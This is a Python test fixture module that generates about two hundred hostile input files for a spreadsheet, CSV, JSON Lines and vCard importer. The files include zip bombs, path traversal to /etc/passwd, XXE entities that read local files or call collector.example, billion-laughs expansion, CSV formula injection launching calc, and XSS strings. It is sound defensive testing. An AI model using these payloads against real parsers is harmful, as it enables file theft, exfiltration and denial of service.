"""Two hundred files made to harm: what each is called, and how it is made. `LONG` ones take seconds and are for the soak."""

from __future__ import annotations

import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import xlsxwriter

from tests.base.dialects.archives import MAIN, hidden_crowd, opendocument, sheet, text_cell, workbook_of

Make = Callable[[], bytes]
MB = 1024 * 1024


@dataclass(frozen=True)
class Hostile:
    """One file. `may_be_read` ones are odd and harmless: rows or a refusal, and nothing else."""

    name: str
    make: Make
    may_be_read: bool = False
    is_long: bool = False


FILES: dict[str, Hostile] = {}


def file(name: str, make: Make, *, may_be_read: bool = False, is_long: bool = False) -> None:
    assert name not in FILES, name
    FILES[name] = Hostile(name, make, may_be_read, is_long)


def real_workbook(rows: int = 40) -> bytes:
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out)
    page = book.add_worksheet()
    page.write_row(0, 0, ["Name", "Email"])
    for number in range(rows):
        page.write_row(number + 1, 0, [f"Firm {number}", f"info@f{number}.example"])
    book.close()
    return out.getvalue()


def archive(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as opened:
        for name, content in entries.items():
            opened.writestr(name, content)
    return out.getvalue()


def card(*lines: str, version: str = "3.0") -> bytes:
    return "\r\n".join(["BEGIN:VCARD", f"VERSION:{version}", *lines, "END:VCARD", ""]).encode()


# --- things that are no table, whatever they are called ---------------------------------------------------------------
MAGIC = {
    "pdf": b"%PDF-1.7\n1 0 obj", "rtf": b"{\\rtf1 hello}", "gzip": gzip.compress(b"a,b\n1,2\n"), "bzip2": b"BZh91AY&SY" + bytes(50),
    "xz": b"\xfd7zXZ\x00" + bytes(50), "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50), "rar": b"Rar!\x1a\x07\x01" + bytes(50),
    "png": b"\x89PNG\r\n\x1a\n" + bytes(50), "jpeg": b"\xff\xd8\xff\xe0" + bytes(50), "gif": b"GIF89a" + bytes(50),
    "sqlite": b"SQLite format 3\x00" + bytes(100), "elf": b"\x7fELF" + bytes(100), "exe": b"MZ\x90\x00" + bytes(100),
    "html": b"<!DOCTYPE html><table><tr><td>x</td></tr></table>", "xml": b'<?xml version="1.0"?><a/>',
    "xml-2003": b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
    "calendar": b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n",
}  # fmt: skip
for kind, content in MAGIC.items():
    for ending in ("csv", "xlsx", "vcf"):
        file(f"{kind}.{ending}", lambda content=content: content)  # type: ignore[misc]
for name, content in {
    "nothing": b"", "blanks": b" \r\n\t\n", "zeros": bytes(5000), "marks": b"\xef\xbb\xbf", "wide-mark": b"\xff\xfe", "noise": random.Random(1).randbytes(20_000),
    "controls": bytes(range(1, 32)) * 500,
}.items():  # fmt: skip
    for ending in ("csv", "vcf"):
        file(f"{name}.{ending}", lambda content=content: content)  # type: ignore[misc]

# --- archives ---------------------------------------------------------------------------------------------------------
BOMB = sheet(f"<row>{text_cell('A1', 'a' * 120_000_000)}</row>")
file("bomb.xlsx", lambda: workbook_of(BOMB), is_long=True)
file(
    "bomb.ods",
    lambda: opendocument(
        f"<table:table-row><table:table-cell><text:p>{'a' * 120_000_000}</text:p></table:table-cell></table:table-row>"
    ),
    is_long=True,
)
file("small-bomb.xlsx", lambda: workbook_of(sheet(f"<row>{text_cell('A1', 'a' * 25_000_000)}</row>")))
file("parts.xlsx", lambda: workbook_of(sheet(""), {f"xl/media/{n}.txt": "" for n in range(5_500)}))
file("hidden-crowd.xlsx", lambda: hidden_crowd(60_000))
file("not-a-workbook.xlsx", lambda: archive({"readme.txt": b"hello"}))
file("document.xlsx", lambda: archive({"word/document.xml": b"<w/>"}))
file("numbers.xlsx", lambda: archive({"Index/Document.iwa": b"x"}))
file("archive-in-archive.zip", lambda: archive({"inner.zip": archive({"xl/workbook.xml": b"<w/>"})}))
file("empty-archive.xlsx", lambda: archive({}))
file(
    "without-a-sheet.xlsx",
    lambda: archive({"xl/workbook.xml": f'<workbook xmlns="{MAIN}"><sheets/></workbook>'.encode()}),
)
file("upwards.xlsx", lambda: archive({"../../etc/passwd": b"x", "xl/workbook.xml": b"<workbook/>"}))
file(
    "locked.xlsx",
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600),
)
file(
    "letter.xls",
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "WordDocument".encode("utf-16-le") + bytes(600),
)
for seed in range(4):
    file(
        f"old-noise-{seed}.xls",
        lambda seed=seed: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(seed).randbytes(6_000),
    )  # type: ignore[misc]
for share in (5, 20, 40, 60, 80, 90, 97, 99):
    file(f"cut-at-{share}.xlsx", lambda share=share: (data := real_workbook())[: len(data) * share // 100])  # type: ignore[misc]


def lying(claimed: int) -> bytes:
    """A workbook whose sheet says another size than it has."""
    data = bytearray(workbook_of(sheet(f"<row>{text_cell('A1', 'a' * 30_000_000)}</row>")))
    for signature, at, length in ((b"PK\x01\x02", 24, 46), (b"PK\x03\x04", 22, 30)):
        place = data.find(b"xl/worksheets/sheet1.xml")
        while place > 0:
            head = place - length
            if data[head : head + 4] == signature:
                struct.pack_into("<L", data, head + at, claimed)
            place = data.find(b"xl/worksheets/sheet1.xml", place + 1)
    return bytes(data)


for claimed in (0, 1, 900, 0xFFFFFFFE):
    file(f"lies-about-its-size-{claimed}.xlsx", lambda claimed=claimed: lying(claimed), may_be_read=claimed < 1000)  # type: ignore[misc]


def directory_of(size: int) -> bytes:
    data = bytearray(real_workbook())
    end = data.rfind(b"PK\x05\x06")
    struct.pack_into("<L", data, end + 12, size)
    return bytes(data)


for size in (0, 7, 0x7FFFFFFF, 0xFFFFFFFF):
    file(f"directory-of-{size}.xlsx", lambda size=size: directory_of(size), may_be_read=size < 100)  # type: ignore[misc]
for seed in range(16):

    def damaged(seed: int = seed) -> bytes:
        data, chance = bytearray(real_workbook()), random.Random(seed)
        for _ in range(8):
            data[chance.randrange(30, len(data))] = chance.randrange(256)
        return bytes(data)

    file(f"damaged-{seed}.xlsx", damaged, may_be_read=True)

# --- XML inside -------------------------------------------------------------------------------------------------------
ENTITIES = {
    "file": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "web": '<!DOCTYPE x SYSTEM "http://collector.example/x.dtd">',
    "parameter": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://collector.example/p"> %p;]>',
    "laughs": '<!DOCTYPE x [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8))
    + "]>",
}
for name, prologue in ENTITIES.items():
    file(
        f"entities-{name}.xlsx",
        lambda prologue=prologue: workbook_of(prologue + sheet(f"<row>{text_cell('A1', '&e;')}</row>")),
    )  # type: ignore[misc]
    file(f"entities-{name}.ods", lambda prologue=prologue: opendocument("", before=prologue))  # type: ignore[misc]
    file(f"entities-{name}.csv", lambda prologue=prologue: ('<?xml version="1.0"?>' + prologue).encode())  # type: ignore[misc]
file("deep.xlsx", lambda: workbook_of(sheet("<row>" + "<c>" * 200_000 + "</c>" * 200_000 + "</row>")), may_be_read=True)
file("unclosed.xlsx", lambda: workbook_of(f'<worksheet xmlns="{MAIN}"><sheetData><row><c>'), may_be_read=True)
file("no-text.xlsx", lambda: workbook_of("\x00\x01\x02"))
file(
    "corners.xlsx",
    lambda: workbook_of(
        sheet(f'<row r="1">{text_cell("A1", "x")}</row><row r="1048576">{text_cell("XFD1048576", "y")}</row>')
    ),
)
file(
    "far-cell.xlsx",
    lambda: workbook_of(sheet(f'<row r="1">{text_cell("A1", "x")}</row><row r="2">{text_cell("ZZZZ2", "y")}</row>')),
    may_be_read=True,
    is_long=True,
)
file("below-zero.xlsx", lambda: workbook_of(sheet(f'<row r="0">{text_cell("A0", "x")}</row>')), may_be_read=True)
file(
    "not-shared.xlsx",
    lambda: workbook_of(sheet('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>')),
    may_be_read=True,
)
file(
    "million-rows.xlsx",
    lambda: workbook_of(sheet(f'<row r="1">{text_cell("A1", "name")}</row>', '<dimension ref="A1:XFD1048576"/>')),
    may_be_read=True,
)
file(
    "merged.xlsx",
    lambda: workbook_of(
        sheet(f'<row r="1">{text_cell("A1", "n")}</row><row r="2">{text_cell("A2", "x")}</row>').replace(
            "</sheetData>", "</sheetData><mergeCells>" + '<mergeCell ref="A2:XFD1048576"/>' * 2000 + "</mergeCells>"
        )
    ),
    may_be_read=True,
)
file(
    "cells.xlsx",
    lambda: workbook_of(
        sheet(
            "".join(
                "<row>" + "<c><v>1</v></c>" * 1000 + f"<!--{random.Random(n).randbytes(10_000).hex()}--></row>"
                for n in range(2_000)
            )
        )
    ),
    is_long=True,
    may_be_read=True,
)
for times in (10_000_000, 2_147_483_647):
    file(
        f"repeated-{times}.ods",
        lambda times=times: opendocument(
            f'<table:table-row table:number-rows-repeated="{times}"><table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>{"x" * 300}</text:p></table:table-cell></table:table-row>'
        ),
    )  # type: ignore[misc]
file(
    "repeated-lines.ods",
    lambda: opendocument(
        '<table:table-row><table:table-cell office:value-type="string"><text:p>x<text:s text:c="2000000000"/></text:p></table:table-cell></table:table-row>'
    ),
    may_be_read=True,
    is_long=True,
)

# --- text -------------------------------------------------------------------------------------------------------------
file("endless-line.csv", lambda: b"a,b\n" + b"x" * (3 * MB))
file("endless-cell.csv", lambda: b"a,b\n" + b'"' + b"x" * 200_000 + b'",1\n')
file("never-closed.csv", lambda: b'a,b\n1,2\n"open' + b",x\n" * 200_000)
file("wide.csv", lambda: b"," * 30_000 + b"\n1,2\n")
file("many-columns.csv", (",".join(f"c{n}" for n in range(1_500)) + "\n1\n").encode)
file("broken-utf8.csv", lambda: ("Name,City\n" + "Ж,Київ\n" * 20).encode() + b"\xc3\x28,\xff\xfe\n")
file("half-a-character.csv", lambda: b"\xff\xfe" + "Name,City\nA,B\n".encode("utf-16-le") + b"\x00")
file("lone-surrogate.csv", lambda: b"\xff\xfe" + "Name,City\n".encode("utf-16-le") + b"\x00\xd8\n\x00" * 3)
file("quotes.csv", lambda: b"Name,City\n" + b'"' * 400_001 + b"\n")
file("only-separators.csv", lambda: b";;;;;;\n" * 20_000, may_be_read=True)
file("returns.csv", lambda: b"Name,City\r" + b"\r" * 500_000 + b"A,B\r", may_be_read=True)
file("two-endings.csv", lambda: b"Name,City\r\nA,B\n\rC,D\x85E,F\n", may_be_read=True)
file("formulas.csv", lambda: b"Name,City\n=cmd|'/c calc'!A1,@SUM(1)\n", may_be_read=True)
file("markup.csv", lambda: b"Name,City\n<script>alert(1)</script>,<img src=x onerror=alert(1)>\n", may_be_read=True)
file("zero-bytes.csv", lambda: b"Name,City\nA\x00B,C\x00\n", may_be_read=True)
file("zero-bytes-in-names.csv", lambda: b"Na\x00me,\x00,Ci\x01ty\x1b[31m\nA,B,C\n", may_be_read=True)
file("a-name-for-everything.csv", lambda: b"constructor,__proto__,id,pk,owner__password\n1,2,3,4,5\n", may_be_read=True)
file("upside-down.csv", "Name,City\n\u202egpj.exe,\u2066x\u2069\n".encode, may_be_read=True)
file("combining.csv", ("Name,City\n" + "Z" + "\u0301" * 100_000 + ",x\n").encode, may_be_read=True)
file("digits.csv", ("Name,Revenue\nA," + "9" * 100_000 + "\nB,1e999999999\nC,-0\n").encode, may_be_read=True)
file("header-only.csv", lambda: b"Name,City\n", may_be_read=True)
file("long-header.csv", lambda: b"x" * 100_000 + b",City\n1,2\n", may_be_read=True)
file(
    "backtracking.csv",
    ("Email,Phone,Date\n" + "a@" * 40_000 + "," + "+1 (" * 25_000 + "," + "1." * 50_000 + "\n").encode,
    may_be_read=True,
)

# --- JSON Lines -------------------------------------------------------------------------------------------------------
file("deep.jsonl", lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000 + b"\n")
file("deep-list.jsonl", lambda: b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", may_be_read=True)
file("wide.jsonl", lambda: json.dumps({f"key{n}": n for n in range(5_000)}).encode() + b"\n")
file("other-keys-every-line.jsonl", lambda: b"".join(b'{"k%d": 1}\n' % n for n in range(5_000)))
file("endless.jsonl", lambda: b'{"name": "' + b"x" * (3 * MB) + b'"}\n')
file("list.json", lambda: b'[{"name": "A"}]')
file("half.jsonl", lambda: b'{"name": "A"}\n{"name": "B"\n')
file("number.jsonl", lambda: b'{"name": "A"}\n17\n')
file("nothing.jsonl", lambda: b"{}\n" * 1000, may_be_read=True)
file("surrogate.jsonl", lambda: b'{"name": "\\ud800"}\n', may_be_read=True)
file("surrogate-key.jsonl", lambda: b'{"name\\udfff": "A", "na\\u0000me": "B"}\n', may_be_read=True)
file("zero-byte.jsonl", lambda: b'{"name": "A\\u0000B", "c": ["\\u0000", {"d\\u0000": 1}]}\n', may_be_read=True)
file("same-key.jsonl", lambda: b'{"name": "A", "name": "B"}\n', may_be_read=True)
file("huge-number.jsonl", lambda: b'{"name": "A", "revenue": ' + b"9" * 100_000 + b"}\n", may_be_read=True)
file("not-a-number.jsonl", lambda: b'{"name": NaN}\n')
file("prototype.jsonl", lambda: b'{"__proto__": {"x": 1}, "name": "A"}\n', may_be_read=True)
file("wrong-bytes.jsonl", lambda: b'{"name": "\xff\xfe"}\n', may_be_read=True)

# --- vCards -----------------------------------------------------------------------------------------------------------
file(
    "endless-fold.vcf",
    lambda: card("FN:Ann", "NOTE:x\r\n" + " yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy\r\n" * 30_000),
)
file(
    "gigabyte-fold.vcf",
    lambda: card("FN:Ann", "PHOTO;ENCODING=b:AA\r\n" + (" " + "A" * 1_000_000 + "\r\n") * 70),
    is_long=True,
)
file("endless-photo.vcf", lambda: card("FN:Ann", "PHOTO;ENCODING=b:" + "A" * (66 * MB)), is_long=True)
file("endless-line.vcf", lambda: card("FN:" + "x" * (2 * MB)))
file(
    "soft-breaks.vcf",
    lambda: card("NOTE;ENCODING=QUOTED-PRINTABLE:" + "=\r\n" * 600_000, version="2.1"),
    is_long=True,
    may_be_read=True,
)
file(
    "long-soft-breaks.vcf",
    lambda: card("NOTE;ENCODING=QUOTED-PRINTABLE:" + "=41=42=43=44=45=46=47=48=\r\n" * 60_000, version="2.1"),
)
file("many-properties.vcf", lambda: card(*["TEL:1"] * 8_000))
file("many-parameters.vcf", lambda: card("TEL" + ";TYPE=work" * 50_000 + ":1"))
file("quoted-parameters.vcf", lambda: card('TEL;X="' + ':";Y="' * 50_000 + ":1"), may_be_read=True)
file("many-emails.vcf", lambda: card("FN:Ann", *[f"EMAIL:a{n}@x.example" for n in range(4_000)]), may_be_read=True)
file(
    "many-properties-of-its-own.vcf",
    lambda: b"".join(card("FN:Ann", *[f"X-{n}-{i}:1" for i in range(60)]) for n in range(60)),
)
file("nested.vcf", lambda: b"BEGIN:VCARD\r\nAGENT:\r\n" + b"BEGIN:VCARD\r\n" * 200_000)
file("never-ends.vcf", lambda: b"BEGIN:VCARD\r\nFN:Ann\r\n")
file("beginnings.vcf", lambda: b"BEGIN:VCARD\r\n" * 20_000)
file("outside.vcf", lambda: card("FN:Ann") + b"X:1\r\n" * 50_000)
file("blank-lines.vcf", lambda: card("FN:Ann") + b"\r\n" * 400_000)
file(
    "wrong-bytes.vcf",
    lambda: card("FN:Ann", "X-A;CHARSET=UTF-8:b").replace(b":b", b":\xff\xfe\x81\x8d"),
    may_be_read=True,
)
file(
    "no-character-set.vcf",
    lambda: card("FN;CHARSET=rot13:Ann", "NOTE;CHARSET=undefined;ENCODING=QUOTED-PRINTABLE:=41"),
    may_be_read=True,
)
file("half-quoted.vcf", lambda: card("FN;ENCODING=QUOTED-PRINTABLE:=ZZ=4", version="2.1"), may_be_read=True)
file("base64.vcf", lambda: card("FN;ENCODING=b:!!!!", "NOTE;ENCODING=b:QUJD"), may_be_read=True)
file("many-semicolons.vcf", lambda: card("N:" + ";" * 500_000), may_be_read=True)
file(
    "many-commas.vcf",
    lambda: card("FN:Ann", "CATEGORIES:" + ",".join(str(n) for n in range(150_000))),
    may_be_read=True,
)
file("backslashes.vcf", lambda: card("FN:Ann", "NOTE:" + "\\" * 900_001), may_be_read=True)
file("zero-bytes.vcf", lambda: card("FN:A\x00nn", "EMAIL:a\x00@x.example"), may_be_read=True)
file("no-names.vcf", lambda: card("TEL:1") * 100, may_be_read=True)
file("only-begin.vcf", lambda: b"BEGIN:VCARD")
file("only-groups.vcf", lambda: card("KIND:group", "FN:Friends", version="4.0") * 10, may_be_read=True)
file(
    "labels.vcf",
    lambda: card("FN:Ann", *[f"item{n}.TEL:{n}\r\nitem{n}.X-ABLabel:{'x' * 500}{n}" for n in range(1_000)]),
    may_be_read=True,
)
file("utf-16-cut.vcf", lambda: ("\ufeffBEGIN:VCARD\r\nFN:Ann\r\nEND:VCARD\r\n".encode("utf-16-le"))[:-3])
file("packed.vcf", lambda: zlib.compress(card("FN:Ann")))
